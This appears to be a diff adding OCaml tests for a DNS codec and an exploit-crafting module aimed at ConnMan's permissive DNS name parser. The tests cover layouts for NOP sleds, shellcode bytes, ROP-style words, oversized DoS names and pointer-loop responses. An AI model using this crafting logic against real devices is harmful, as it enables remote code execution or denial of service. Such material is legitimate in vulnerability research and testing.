@@ -1,0 +1,378 @@
+(* Tests for the DNS wire codec and hostile crafting. *)
+
+open Dns
+
+let check_int = Alcotest.(check int)
+let check_bool = Alcotest.(check bool)
+let check_string = Alcotest.(check string)
+
+(* --- names --- *)
+
+let test_name_string_roundtrip () =
+  check_string "dotted" "www.example.com"
+    (Name.to_string (Name.of_string "www.example.com"));
+  check_string "root" "." (Name.to_string (Name.of_string "."));
+  check_bool "valid" true (Name.valid (Name.of_string "ipv4.connman.net"));
+  check_bool "long label invalid" false (Name.valid [ String.make 64 'a' ])
+
+let test_name_encode () =
+  check_string "wire form" "\x03www\x07example\x03com\x00"
+    (Name.encode (Name.of_string "www.example.com"))
+
+let test_name_decode_simple () =
+  let msg = "\x03www\x07example\x03com\x00rest" in
+  match Name.decode msg 0 with
+  | Ok (labels, used) ->
+      check_string "labels" "www.example.com" (Name.to_string labels);
+      check_int "consumed" 17 used
+  | Error e -> Alcotest.fail e
+
+let test_name_decode_compressed () =
+  (* "example.com" at 0; "www" + pointer-to-0 at 13. *)
+  let msg = "\x07example\x03com\x00\x03www\xC0\x00" in
+  match Name.decode msg 13 with
+  | Ok (labels, used) ->
+      check_string "expanded" "www.example.com" (Name.to_string labels);
+      check_int "pointer consumes 2 after label" 6 used
+  | Error e -> Alcotest.fail e
+
+let test_name_pointer_loop_rejected () =
+  let msg = "\xC0\x00" in
+  match Name.decode msg 0 with
+  | Ok _ -> Alcotest.fail "expected loop detection"
+  | Error _ -> ()
+
+let test_name_truncation_rejected () =
+  (match Name.decode "\x05ab" 0 with
+  | Ok _ -> Alcotest.fail "expected truncation error"
+  | Error _ -> ());
+  match Name.decode "\x03www" 0 with
+  | Ok _ -> Alcotest.fail "expected missing terminator error"
+  | Error _ -> ()
+
+let test_expand_like_connman_is_raw_stream () =
+  let msg = "\x03www\x07example\x03com\x00" in
+  match Name.expand_like_connman msg 0 with
+  | Ok (stream, used) ->
+      check_string "stream = wire minus terminator" "\x03www\x07example\x03com"
+        stream;
+      check_int "consumed" 17 used
+  | Error e -> Alcotest.fail e
+
+let test_expand_like_connman_permissive () =
+  (* A 100-byte label is invalid per RFC but accepted by the vulnerable
+     parser. *)
+  let msg = "\x64" ^ String.make 100 'A' ^ "\x00" in
+  (match Name.decode msg 0 with
+  | Ok _ -> Alcotest.fail "strict decoder must reject length 100"
+  | Error _ -> ());
+  match Name.expand_like_connman msg 0 with
+  | Ok (stream, _) -> check_int "copied verbatim" 101 (String.length stream)
+  | Error e -> Alcotest.fail e
+
+let prop_name_encode_decode =
+  let gen =
+    QCheck.Gen.(
+      list_size (int_range 1 6)
+        (string_size ~gen:(char_range 'a' 'z') (int_range 1 20)))
+  in
+  QCheck.Test.make ~name:"name encode/decode round-trip" ~count:300
+    (QCheck.make ~print:(String.concat ".") gen)
+    (fun labels ->
+      match Name.decode (Name.encode labels) 0 with
+      | Ok (got, used) -> got = labels && used = String.length (Name.encode labels)
+      | Error _ -> false)
+
+(* --- packets --- *)
+
+let q () = Packet.query ~id:0x1234 (Name.of_string "ipv4.connman.net") Packet.A
+
+let test_packet_roundtrip () =
+  let answers =
+    [
+      Packet.a_record (Name.of_string "ipv4.connman.net") ~ttl:60 ~ipv4:0x5DB8D822;
+      Packet.a_record (Name.of_string "ipv4.connman.net") ~ttl:60 ~ipv4:0x01020304;
+    ]
+  in
+  let m = Packet.response ~query:(q ()) answers in
+  let wire = Packet.encode m in
+  match Packet.decode wire with
+  | Error e -> Alcotest.fail e
+  | Ok got ->
+      check_int "id" 0x1234 got.Packet.header.Packet.id;
+      check_bool "qr" true got.Packet.header.Packet.qr;
+      check_int "answers" 2 (List.length got.Packet.answers);
+      let a = List.hd got.Packet.answers in
+      check_string "qname echo" "ipv4.connman.net"
+        (Name.to_string (List.hd got.Packet.questions).Packet.qname);
+      check_bool "ipv4 round trip" true
+        (Packet.ipv4_of_rdata a.Packet.rdata = Some 0x5DB8D822)
+
+let test_packet_compression_smaller () =
+  let answers =
+    [ Packet.a_record (Name.of_string "ipv4.connman.net") ~ttl:60 ~ipv4:1 ]
+  in
+  let m = Packet.response ~query:(q ()) answers in
+  let c = Packet.encode ~compress:true m in
+  let u = Packet.encode ~compress:false m in
+  check_bool "compression shrinks" true (String.length c < String.length u);
+  (* Both decode to the same message. *)
+  match (Packet.decode c, Packet.decode u) with
+  | Ok a, Ok b ->
+      check_string "same qname"
+        (Name.to_string (List.hd a.Packet.questions).Packet.qname)
+        (Name.to_string (List.hd b.Packet.questions).Packet.qname);
+      check_string "same rname"
+        (Name.to_string (List.hd a.Packet.answers).Packet.rname)
+        (Name.to_string (List.hd b.Packet.answers).Packet.rname)
+  | _ -> Alcotest.fail "decode failed"
+
+let test_packet_rejects_short () =
+  match Packet.decode "short" with
+  | Ok _ -> Alcotest.fail "expected error"
+  | Error _ -> ()
+
+let prop_packet_roundtrip =
+  let gen =
+    QCheck.Gen.(
+      let name =
+        list_size (int_range 1 4)
+          (string_size ~gen:(char_range 'a' 'z') (int_range 1 10))
+      in
+      let* id = int_bound 0xFFFF in
+      let* qname = name in
+      let* n_answers = int_range 0 5 in
+      let* ips = list_size (return n_answers) (int_bound 0x3FFFFFFF) in
+      let query = Packet.query ~id qname Packet.A in
+      return (Packet.response ~query (List.map (fun ip -> Packet.a_record qname ~ttl:60 ~ipv4:(ip land 0xFFFFFFFF)) ips)))
+  in
+  QCheck.Test.make ~name:"packet encode/decode round-trip" ~count:200
+    (QCheck.make gen)
+    (fun m ->
+      match Packet.decode (Packet.encode m) with
+      | Ok got ->
+          got.Packet.header.Packet.id = m.Packet.header.Packet.id
+          && List.length got.Packet.answers = List.length m.Packet.answers
+          && List.map (fun (r : Packet.rr) -> r.Packet.rdata) got.Packet.answers
+             = List.map (fun (r : Packet.rr) -> r.Packet.rdata) m.Packet.answers
+      | Error _ -> false)
+
+(* --- the label layout planner --- *)
+
+let expand_ok wire =
+  match Name.expand_like_connman wire 0 with
+  | Ok (stream, _) -> stream
+  | Error e -> Alcotest.fail ("expansion failed: " ^ e)
+
+let test_plan_all_any () =
+  match Craft.plan_labels (Craft.spec_any 500) with
+  | Error e -> Alcotest.fail e
+  | Ok wire ->
+      let stream = expand_ok wire in
+      check_int "expansion length" 500 (String.length stream)
+
+let test_plan_fixed_payload_with_gaps () =
+  (* 4 fixed bytes, a don't-care, 4 fixed bytes … — like a ROP chain with
+     placeholder slots. *)
+  let spec =
+    Craft.spec_concat
+      [
+        Craft.spec_any 1;
+        Craft.spec_fixed "\xB1\x12\x01\x00";
+        Craft.spec_any 1;
+        Craft.spec_fixed "\xE4\x53\xD8\x76";
+        Craft.spec_any 1;
+      ]
+  in
+  match Craft.plan_labels spec with
+  | Error e -> Alcotest.fail e
+  | Ok wire ->
+      let stream = expand_ok wire in
+      check_string "fixed bytes preserved" "\xB1\x12\x01\x00"
+        (String.sub stream 1 4);
+      check_string "second word preserved" "\xE4\x53\xD8\x76"
+        (String.sub stream 6 4)
+
+let test_plan_nop_sled_self_consistent () =
+  (* A sled of 0x90 bytes is self-consistent (0x90 = 144 is a legal
+     permissive label length) but *rigid*: every boundary inside it forces
+     a 145-byte stride.  A feasible layout therefore sizes the sled as a
+     whole number of 145-byte strides and follows the code with don't-care
+     slack — exactly what the exploit builder does. *)
+  let spec =
+    Craft.spec_concat
+      [
+        Array.make 290 (Craft.Fixed '\x90');
+        Craft.spec_fixed "\x31\xC0\x50";
+        Craft.spec_any 60;
+      ]
+  in
+  match Craft.plan_labels spec with
+  | Error e -> Alcotest.fail e
+  | Ok wire ->
+      let stream = expand_ok wire in
+      check_int "length" 353 (String.length stream);
+      check_string "sled intact" (String.make 290 '\x90') (String.sub stream 0 290);
+      check_string "code intact" "\x31\xC0\x50" (String.sub stream 290 3)
+
+let test_plan_impossible_long_fixed_run () =
+  (* 300 fixed non-length bytes cannot host a boundary. *)
+  let spec = Array.make 300 (Craft.Fixed '\xFF') in
+  match Craft.plan_labels spec with
+  | Ok _ -> Alcotest.fail "expected planning failure"
+  | Error _ -> ()
+
+let test_plan_strict_rfc_mode () =
+  match Craft.plan_labels ~label_max:63 (Craft.spec_any 200) with
+  | Error e -> Alcotest.fail e
+  | Ok wire ->
+      (* Must also parse with the strict decoder. *)
+      (match Name.decode wire 0 with
+      | Ok _ -> ()
+      | Error e -> Alcotest.fail ("strict decode: " ^ e));
+      check_int "expansion" 200 (String.length (expand_ok wire))
+
+let gen_spec : Craft.byte_spec array QCheck.Gen.t =
+  QCheck.Gen.(
+    let* n = int_range 1 1200 in
+    let* density = int_range 2 12 in
+    array_size (return n)
+      (let* fixed = int_bound density in
+       if fixed = 0 then return Craft.Any
+       else
+         let* c = char in
+         return (Craft.Fixed c)))
+
+let prop_planner_sound =
+  QCheck.Test.make ~name:"planned layout expands to the spec" ~count:300
+    (QCheck.make gen_spec)
+    (fun spec ->
+      match Craft.plan_labels spec with
+      | Error _ -> QCheck.assume_fail ()
+      | Ok wire -> (
+          match Name.expand_like_connman wire 0 with
+          | Error _ -> false
+          | Ok (stream, consumed) ->
+              consumed = String.length wire
+              && String.length stream = Array.length spec
+              && Array.for_all
+                   (fun x -> x)
+                   (Array.mapi
+                      (fun i b ->
+                        match b with
+                        | Craft.Fixed c -> stream.[i] = c
+                        | Craft.Any -> true)
+                      spec)))
+
+let prop_planner_total_on_sparse_specs =
+  (* With a don't-care at least every 100 bytes, planning must succeed. *)
+  QCheck.Test.make ~name:"planner succeeds on sparse specs" ~count:200
+    QCheck.(int_range 1 15)
+    (fun blocks ->
+      let spec =
+        Craft.spec_concat
+          (List.concat_map
+             (fun _ -> [ Craft.spec_any 1; Craft.spec_fixed (String.make 90 '\xFE') ])
+             (List.init blocks Fun.id))
+      in
+      Result.is_ok (Craft.plan_labels spec))
+
+(* --- hostile responses --- *)
+
+let test_hostile_response_passes_validation () =
+  let query = q () in
+  let raw_name = Result.get_ok (Craft.plan_labels (Craft.spec_any 64)) in
+  let wire = Craft.hostile_response ~query ~raw_name () in
+  (* The skeleton decodes as a legitimate-looking response (the answer name
+     is RFC-invalid only in its label lengths when > 63; with Any it uses
+     max-length labels, so strict decode fails; but header/question checks
+     pass). *)
+  check_int "id echoed" 0x1234
+    ((Char.code wire.[0] lsl 8) lor Char.code wire.[1]);
+  check_bool "qr set" true (Char.code wire.[2] land 0x80 <> 0);
+  check_int "ancount" 1 ((Char.code wire.[6] lsl 8) lor Char.code wire.[7])
+
+let test_hostile_response_name_at_answer () =
+  let query = q () in
+  (* Position 0 of the expansion is always a length byte, so payloads lead
+     with a don't-care slot. *)
+  let spec = Craft.spec_concat [ Craft.spec_any 1; Craft.spec_fixed "ABC" ] in
+  let raw_name = Result.get_ok (Craft.plan_labels spec) in
+  let wire = Craft.hostile_response ~query ~raw_name () in
+  (* Answer offset: 12 header + question (18 for ipv4.connman.net + 4). *)
+  let qlen = String.length (Name.encode (Name.of_string "ipv4.connman.net")) in
+  let off = 12 + qlen + 4 in
+  match Name.expand_like_connman wire off with
+  | Ok (stream, _) -> check_string "payload recovered" "ABC" (String.sub stream 1 3)
+  | Error e -> Alcotest.fail e
+
+let test_dos_name_expands_big () =
+  let wire = Craft.dos_name ~size:8192 in
+  match Name.expand_like_connman wire 0 with
+  | Ok (stream, _) -> check_bool "big" true (String.length stream > 8192)
+  | Error e -> Alcotest.fail e
+
+let test_pointer_loop_response () =
+  let query = q () in
+  let wire =
+    Craft.hostile_response ~query ~raw_name:(Craft.pointer_loop_name ()) ()
+  in
+  let qlen = String.length (Name.encode (Name.of_string "ipv4.connman.net")) in
+  let off = 12 + qlen + 4 in
+  (* Both the strict and the permissive expander must detect/err: the
+     vulnerable machine-code path is the one that hangs. *)
+  check_bool "strict rejects" true (Result.is_error (Name.decode wire off));
+  check_bool "permissive detects loop" true
+    (Result.is_error (Name.expand_like_connman wire off))
+
+let () =
+  let qt = QCheck_alcotest.to_alcotest in
+  Alcotest.run "dns"
+    [
+      ( "names",
+        [
+          Alcotest.test_case "string round-trip" `Quick test_name_string_roundtrip;
+          Alcotest.test_case "wire encode" `Quick test_name_encode;
+          Alcotest.test_case "decode simple" `Quick test_name_decode_simple;
+          Alcotest.test_case "decode compressed" `Quick test_name_decode_compressed;
+          Alcotest.test_case "pointer loop rejected" `Quick
+            test_name_pointer_loop_rejected;
+          Alcotest.test_case "truncation rejected" `Quick
+            test_name_truncation_rejected;
+          Alcotest.test_case "vulnerable expansion = raw stream" `Quick
+            test_expand_like_connman_is_raw_stream;
+          Alcotest.test_case "vulnerable expansion permissive" `Quick
+            test_expand_like_connman_permissive;
+          qt prop_name_encode_decode;
+        ] );
+      ( "packets",
+        [
+          Alcotest.test_case "response round-trip" `Quick test_packet_roundtrip;
+          Alcotest.test_case "compression shrinks + agrees" `Quick
+            test_packet_compression_smaller;
+          Alcotest.test_case "short message rejected" `Quick test_packet_rejects_short;
+          qt prop_packet_roundtrip;
+        ] );
+      ( "label planner",
+        [
+          Alcotest.test_case "all don't-care" `Quick test_plan_all_any;
+          Alcotest.test_case "fixed payload with gaps" `Quick
+            test_plan_fixed_payload_with_gaps;
+          Alcotest.test_case "NOP sled self-consistent" `Quick
+            test_plan_nop_sled_self_consistent;
+          Alcotest.test_case "impossible fixed run" `Quick
+            test_plan_impossible_long_fixed_run;
+          Alcotest.test_case "strict RFC mode" `Quick test_plan_strict_rfc_mode;
+          qt prop_planner_sound;
+          qt prop_planner_total_on_sparse_specs;
+        ] );
+      ( "hostile responses",
+        [
+          Alcotest.test_case "passes validation" `Quick
+            test_hostile_response_passes_validation;
+          Alcotest.test_case "payload at answer offset" `Quick
+            test_hostile_response_name_at_answer;
+          Alcotest.test_case "DoS name expands big" `Quick test_dos_name_expands_big;
+          Alcotest.test_case "pointer-loop response" `Quick test_pointer_loop_response;
+        ] );
+    ]
